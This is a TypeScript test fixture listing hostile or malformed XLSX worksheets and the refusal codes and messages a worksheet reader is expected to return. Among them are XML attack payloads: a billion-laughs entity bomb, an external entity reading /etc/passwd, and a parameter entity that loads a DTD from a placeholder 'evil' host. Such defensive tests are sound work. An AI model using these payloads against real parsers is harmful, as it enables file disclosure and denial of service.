import { workbookParts } from "../../../src/libs/worksheet-reader/test-support";
import { letters, rowsXml, survey, surveyHeaders, table } from "../support/workbooks";
import { changed, damagedFile, goodRows, type HostileFile, noise, sheet, zip } from "./hostile-file";

const good = rowsXml(goodRows);
const number = (reference: string) => `<c r="${reference}"><v>1</v></c>`;
const reference = (shown: string) =>
  damagedFile(`it refers to a cell or row "${shown}" that cannot be there`);
const doctype = (declarations: string) =>
  `<!DOCTYPE worksheet [${declarations}]><worksheet><sheetData>${good}</sheetData></worksheet>`;
const withXml = (xml: string) => zip(changed("sheet1.xml", () => ({ content: xml })));

const refusedDoctype = /^The workbook .*[.;].*(?:export|save|open)/;

/** Worksheets whose XML attacks, or contradicts itself. */
export const sheets: HostileFile[] = [
  {
    what: "entities that expand a billionfold",
    file: () =>
      withXml(
        doctype(
          '<!ENTITY a "aaaaaaaaaa">' +
            Array.from(
              "bcdefghij",
              (name, index) => `<!ENTITY ${name} "${`&${"abcdefghi"[index]};`.repeat(10)}">`,
            ).join(""),
        ),
      ),
    code: "doctype-refused",
    says: refusedDoctype,
  },
  {
    what: "an external entity",
    file: () => withXml(doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    code: "doctype-refused",
    says: refusedDoctype,
  },
  {
    what: "a parameter entity from the network",
    file: () => withXml(doctype('<!ENTITY % x SYSTEM "http://192.0.2.1/evil.dtd"> %x;')),
    code: "doctype-refused",
    says: refusedDoctype,
  },
  {
    what: "entities in the table of texts",
    file: () =>
      zip(
        changed("sharedStrings.xml", () => ({
          content: '<!DOCTYPE sst [<!ENTITY x "y">]><sst><si><t>&x;</t></si></sst>',
        })),
      ),
    code: "doctype-refused",
    says: refusedDoctype,
  },
  {
    what: "an entity that nobody declared",
    file: () => sheet(`${good}<row r="4"><c r="A4" t="str"><v>&evil;</v></c></row>`),
    code: "damaged-xml",
    says: damagedFile("it holds an undefined XML entity"),
  },
  {
    what: "XML that ends too early",
    file: () => withXml(`<worksheet><sheetData>${good.slice(0, -30)}`),
    code: "damaged-xml",
    says: damagedFile("its XML ends too early"),
  },
  {
    what: "another encoding than UTF-8",
    file: () =>
      withXml(`<?xml version="1.0" encoding="UTF-7"?><worksheet><sheetData>${good}</sheetData></worksheet>`),
    code: "unsupported-encoding",
    says: "The workbook is written in an unusual encoding; open it in Excel and save it as .xlsx.",
  },
  {
    what: "a reference to a text that isn't there",
    file: () => sheet(`${good}<row r="4"><c r="A4" t="s"><v>7</v></c></row>`, { strings: ["a"] }),
    code: "bad-string-index",
    says: damagedFile("cell A4 refers to a text that is not there"),
  },
  {
    what: "a reference to text number -1",
    file: () => sheet(`${good}<row r="4"><c r="A4" t="s"><v>-1</v></c></row>`, { strings: ["a"] }),
    code: "bad-string-index",
    says: damagedFile("cell A4 refers to a text that is not there"),
  },
  {
    what: "ten megabytes in one cell",
    file: () =>
      sheet(`${good}<row r="4"><c r="A4" t="inlineStr"><is><t>${noise(10 * 1024 ** 2)}</t></is></c></row>`),
    code: "cell-too-long",
    says: "A text in the file is too long (cell A4); shorten it and upload the file again.",
  },
  {
    what: "ten megabytes in one shared text",
    file: () => sheet(good, { strings: ["a", noise(10 * 1024 ** 2)] }),
    code: "cell-too-long",
    says: "A text in the file is too long (shared string 1); shorten it and upload the file again.",
  },
  {
    what: "a value in the last column of all",
    file: () => sheet(`${good}<row r="4">${number("XFD4")}</row>`),
    code: "too-many-columns",
    says: "The sheet holds a value in column XFD, more columns than can be read; remove the columns that are not needed.",
  },
  {
    what: "a cell beyond the last column",
    file: () => sheet(`${good}<row r="4">${number("XFE4")}</row>`),
    code: "bad-reference",
    says: reference("XFE4"),
  },
  {
    what: "a cell called ZZZZZZZZZZ9999999999",
    file: () => sheet(`${good}<row r="4">${number("ZZZZZZZZZZ9999999999")}</row>`),
    code: "bad-reference",
    says: reference("ZZZZZZZZZZ9999999999"),
  },
  {
    what: "a cell without a row",
    file: () => sheet(`${good}<row r="4">${number("A")}</row>`),
    code: "bad-reference",
    says: reference("A"),
  },
  {
    what: "a cell of another row",
    file: () => sheet(`${good}<row r="4">${number("A9")}</row>`),
    code: "bad-reference",
    says: reference("A9"),
  },
  {
    what: "row 0",
    file: () => sheet('<row r="0"><c><v>1</v></c></row>'),
    code: "bad-reference",
    says: reference("0"),
  },
  {
    what: "row -1",
    file: () => sheet(`${good}<row r="-1"><c><v>1</v></c></row>`),
    code: "bad-reference",
    says: reference("-1"),
  },
  {
    what: "row 1048577",
    file: () => sheet(`${good}<row r="1048577"><c><v>1</v></c></row>`),
    code: "bad-reference",
    says: reference("1048577"),
  },
  {
    what: "a row twice",
    file: () => sheet(`${good}<row r="2">${number("A2")}</row>`),
    code: "rows-out-of-order",
    says: damagedFile("row 2 occurs twice or too late"),
  },
  {
    what: "a cell twice",
    file: () => sheet(`${good}<row r="4">${number("A4")}${number("A4")}</row>`),
    code: "duplicate-cell",
    says: damagedFile("cell A4 occurs twice"),
  },
  {
    what: "damage behind thousands of good rows",
    file: () =>
      sheet(
        rowsXml(
          table(
            surveyHeaders,
            Array.from({ length: 4_000 }, (_, index) => survey("6500000001.00001", `QS${index}`, index)),
          ),
        ) + `<row r="9000">${number("A1")}</row>`,
      ),
    code: "bad-reference",
    says: reference("A1"),
  },
  {
    what: "no rows at all",
    file: () => sheet(""),
    code: "no-rows",
    says: /holds no rows/,
  },
  {
    what: "headers of something else",
    file: () =>
      sheet(
        rowsXml([
          ["Employee", "Salary"],
          ["A. Person", 1],
        ]),
      ),
    code: "no-header-row",
    says: /^This file has the columns of neither .* Upload the export as the portal wrote it/,
  },
  {
    what: "a header row of a thousand columns that mean nothing",
    file: () => sheet(rowsXml([Array.from({ length: 1_000 }, (_, column) => `Column ${letters(column)}`)])),
    code: "no-header-row",
    says: /Upload the export as the portal wrote it/,
  },
  {
    what: "nothing but hidden, empty sheets",
    file: () => zip(workbookParts([{ state: "hidden" }, { state: "veryHidden" }])),
    code: "no-rows",
    says: /holds no rows/,
  },
];
